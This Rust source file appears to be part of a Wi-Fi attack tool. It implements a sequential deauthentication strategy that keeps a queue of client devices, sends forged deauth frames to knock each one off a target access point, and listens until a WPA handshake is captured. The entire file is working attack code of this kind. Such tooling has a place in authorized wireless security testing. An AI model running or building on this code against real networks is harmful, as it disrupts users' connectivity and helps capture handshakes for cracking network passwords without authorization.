//! SequentialDeauth: deauthenticate known clients one at a time, waiting for
//! a handshake after each

use std::sync::{Mutex, PoisonError};
use tracing::{debug, info};

use super::{AttackEvent, StrategyContext};
use crate::capture::ListenOutcome;
use crate::frames::DeauthFrame;
use crate::handshake::Observation;
use crate::types::MacAddress;

#[derive(Debug, Default)]
struct QueueInner {
    clients: Vec<MacAddress>,
    next: usize,
}

/// Ordered, de-duplicated sweep list. Clients can be appended while the sweep
/// runs; they are visited after the ones already queued.
#[derive(Debug)]
pub struct ClientQueue {
    bssid: MacAddress,
    inner: Mutex<QueueInner>,
}

impl ClientQueue {
    pub fn new(bssid: MacAddress, clients: impl IntoIterator<Item = MacAddress>) -> Self {
        let queue = Self {
            bssid,
            inner: Mutex::new(QueueInner::default()),
        };
        for client in clients {
            queue.push(client);
        }
        queue
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, QueueInner> {
        self.inner.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Queue `client` unless already known. Returns true if it was added.
    pub fn push(&self, client: MacAddress) -> bool {
        if client.is_multicast() || client == self.bssid {
            return false;
        }
        let mut inner = self.lock();
        if inner.clients.contains(&client) {
            return false;
        }
        inner.clients.push(client);
        true
    }

    /// Next unvisited client
    pub fn next(&self) -> Option<MacAddress> {
        let mut inner = self.lock();
        let client = inner.clients.get(inner.next).copied()?;
        inner.next += 1;
        Some(client)
    }

    pub fn visited(&self) -> usize {
        self.lock().next
    }

    pub fn clients(&self) -> Vec<MacAddress> {
        self.lock().clients.clone()
    }
}

pub(super) async fn run(ctx: StrategyContext, queue: std::sync::Arc<ClientQueue>) {
    let reason = ctx.settings.deauth_reason;
    let mut analyzer = ctx.analyzer().with_known_clients(queue.clients());
    let mut exhausted = false;

    let mut on_observation = |observation: &Observation| {
        ctx.observe(observation);
        if let Observation::ClientDiscovered(client) = observation {
            if queue.push(*client) {
                debug!("Client {} queued for deauth", client);
            }
        }
    };

    loop {
        let window = match queue.next() {
            Some(client) => {
                exhausted = false;
                info!(
                    "Deauthenticating client {} ({} visited)",
                    client,
                    queue.visited()
                );
                ctx.progress.push_targeted(client);
                ctx.publish(AttackEvent::ClientTargeted(client));

                let frames = [
                    DeauthFrame::from_ap(ctx.target.bssid, client, reason),
                    DeauthFrame::from_client(ctx.target.bssid, client, reason),
                ];
                if !ctx.transmit_burst(&frames).await {
                    break;
                }
                ctx.settings.client_window()
            }
            None => {
                if !exhausted {
                    exhausted = true;
                    let visited = queue.visited();
                    info!("Client sweep exhausted after {} clients, listening", visited);
                    ctx.publish(AttackEvent::SweepExhausted { visited });
                }
                ctx.settings.capture_slice()
            }
        };

        match ctx
            .window()
            .listen(&mut analyzer, Some(window), &mut on_observation)
            .await
        {
            ListenOutcome::Elapsed => {}
            ListenOutcome::Handshake(handshake) => {
                ctx.captured(handshake);
                break;
            }
            ListenOutcome::Stopped => break,
        }
    }
    debug!("Sequential deauth stopped after {} clients", queue.visited());
}
